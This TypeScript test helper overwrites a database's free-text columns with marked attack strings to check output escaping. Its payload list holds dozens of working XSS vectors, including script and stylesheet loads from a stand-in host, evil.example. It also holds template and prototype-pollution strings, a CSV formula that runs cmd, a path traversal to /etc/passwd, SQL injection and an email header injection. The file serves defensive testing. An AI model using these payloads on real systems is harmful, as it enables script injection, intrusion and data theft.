/** Texts as an attacker writes them, put into every field of a database that people can fill. */
import type pg from 'pg'

/** A tag of no browser: where it stands unescaped in an answer, so would a script. */
export const MARK = 'enishi-xss'

/**
 * Ways out of a text into markup, scripts, addresses, styles and templates, by the kinds that OWASP's cheat sheet and the test sets
 * of sanitisers know; every one of them runs `hurt()` if it runs at all.
 */
export const attacks: readonly string[] = [
  `<${MARK}>`, `"><${MARK} x="`, `'><${MARK} x='`, `</title><${MARK}>`, `</textarea><${MARK}>`, `</script><${MARK}><script>hurt()</script>`, `</style><${MARK}>`, `<!--><${MARK}>-->`, `]]><${MARK}>`, `--!><${MARK}>`,
  '<script>hurt()</script>', '<ScRiPt src=//evil.example/x.js></sCrIpT>', '<script\u000chref="#">hurt()</script >', '<<script>hurt();//<</script>', '<script>/*</script><script>*/hurt()</script>',
  '<img src=x onerror=hurt()>', '<img src="x" onerror="hurt()"', '<IMG """><SCRIPT>hurt()</SCRIPT>">', '<img/src/onerror=hurt()>', '<image src=x onerror=hurt()>', '<img src=`x`onerror=hurt()>', '<img srcset=x onerror=hurt()>',
  '<svg onload=hurt()>', '<svg><script>hurt()</script></svg>', '<svg><a xlink:href="javascript:hurt()"><text>x</text></a></svg>', '<svg><animate onbegin=hurt() attributeName=x dur=1s>', '<svg><foreignObject><iframe srcdoc="<script>parent.hurt()</script>"></iframe></foreignObject></svg>', '<svg><style><img src=x onerror=hurt()></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hurt()&gt;">', '<math><annotation-xml encoding="text/html"><img src=x onerror=hurt()></annotation-xml></math>', '<noscript><p title="</noscript><img src=x onerror=hurt()>">',
  '<body onload=hurt()>', '<details open ontoggle=hurt()>x</details>', '<input autofocus onfocus=hurt()>', '<select autofocus onfocus=hurt()>', '<video><source onerror=hurt()></video>', '<audio src onloadstart=hurt()>', '<marquee onstart=hurt()>x</marquee>', '<object data="javascript:hurt()"></object>', '<embed src="javascript:hurt()">',
  '<iframe src="javascript:parent.hurt()"></iframe>', '<iframe srcdoc="&lt;script&gt;parent.hurt()&lt;/script&gt;"></iframe>', '<base href="//evil.example/">', '<meta http-equiv="refresh" content="0;url=javascript:hurt()">', '<link rel=stylesheet href=//evil.example/x.css>', '<form action="javascript:hurt()"><button>x</button></form>', '<button formaction="javascript:hurt()">x</button>',
  '<style>@import "//evil.example/x.css";*{background:url(//evil.example/)}</style>', '<div style="background:url(javascript:hurt())">', '<div style="position:fixed;inset:0;width:9999px;height:9999px">', '<x style="animation:x" onanimationstart=hurt()>',
  'javascript:hurt()', 'JaVaScRiPt:hurt()', 'java\tscript:hurt()', '\u0001javascript:hurt()', 'javascript&colon;hurt()', '&#106;avascript:hurt()', 'data:text/html,<script>hurt()</script>', 'vbscript:hurt()', '[x](javascript:hurt())', '![x](x "onerror=hurt()")', '<javascript:hurt()>',
  '${hurt()}', '{{constructor.constructor("hurt()")()}}', '#{hurt()}', '<%= hurt() %>', '`;hurt();//', '\';hurt();//', '\\";hurt();//', '\u2028hurt()\u2029', '{"__proto__":{"hurt":1}}', '__proto__', 'constructor', '%3Cscript%3Ehurt()%3C/script%3E', '&lt;script&gt;hurt()&lt;/script&gt;', '&amp;lt;img src=x onerror=hurt()&amp;gt;',
  '＜script＞hurt()＜/script＞', '\u202Ehurt()\u202C', '\uFEFF<img src=x onerror=hurt()>', 'a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301', '髙瀬\u{E0100}<b>𠮷</b>', '=cmd|\' /C calc\'!A0', '@SUM(1)', '%s%n%x', '../../../../etc/passwd', "' or 1=1;--", '\r\nBcc: evil@example.com', '\\u003cscript\\u003ehurt()\\u003c/script\\u003e',
]

/** The attacks in pieces that fit into a field: `size` at a time, each piece beginning with the mark's way out. */
export const pieces = (size: number): string[] =>
  Array.from({ length: Math.ceil(attacks.length / size) }, (_, i) => attacks.slice(i * size, (i + 1) * size).join(' '))

/** Columns that hold words of the product (kinds, states, keys, addresses, markup of our own renderer), not words of people. */
const fixed = /(^|_)(id|key|kind|type|state|status|stream|slug|handle|hash|href|lng|zone|list|source|method|size|visibility|html|norm|period|email|to|role|action|queue|job_type)$|^(member\.password_hash|session\.|known_device\.|setup_token\.|feed_token\.|command\.|outbox\.|audit_entry\.(actor_role|subject|request_id)|rate_limit\.|stream\.|live_event\.|mail\.|dev_mail\.|mail_suppression\.|mail_choice\.|digest_|event\.body|news\.(body|category|figure|change)|post\.(doc|reactions)|scheduled_topic\.doc|event\.agenda|mentor\.(fields|topics)|report\.(reason|subject)|organisation\.|member\.(time_zone)|question\.reason|_prisma)/

export type Filled = { column: string; rows: number }

/**
 * Fills every free text column of the database: its marker (so that one can tell where it was seen) and, row by row, other attacks.
 * A column that takes only short texts gets short ones. Out: what was filled.
 */
export async function fillWithAttacks(db: pg.Client): Promise<Filled[]> {
  const { rows: columns } = await db.query<{ table: string; column: string; isArray: boolean }>(`
    select table_name as "table", column_name as "column", data_type = 'ARRAY' as "isArray" from information_schema.columns
    where table_schema = 'public' and (data_type = 'text' or (data_type = 'ARRAY' and udt_name = '_text')) and is_generated = 'NEVER' order by 1, 2`)
  const filled: Filled[] = []
  for (const { table, column, isArray } of columns) {
    const name = `${table}.${column}`
    if (fixed.test(name) || fixed.test(column) || isArray) continue
    filled.push({ column: name, rows: await fill(db, table, column) })
  }
  return filled
}

/** What stands at the beginning of a filled field. */
export const markerOf = (column: string): string => `§${column}§`

async function fill(db: pg.Client, table: string, column: string): Promise<number> {
  for (const texts of [pieces(7), pieces(2), attacks.filter((a) => a.length <= 30)]) {
    try {
      const { rowCount } = await db.query(
        `update "${table}" set "${column}" = $1 || ($2::text[])[1 + ('x' || substr(md5(ctid::text), 1, 6))::bit(24)::int % cardinality($2::text[])] where "${column}" is not null and "${column}" <> ''`,
        [`${markerOf(`${table}.${column}`)} `, texts])
      return rowCount ?? 0
    } catch (error) {
      if (!(error instanceof Error && 'code' in error && (error.code === '23514' || error.code === '22001'))) throw new Error(`${table}.${column} could not be filled`, { cause: error })
    }
  }
  return 0
}
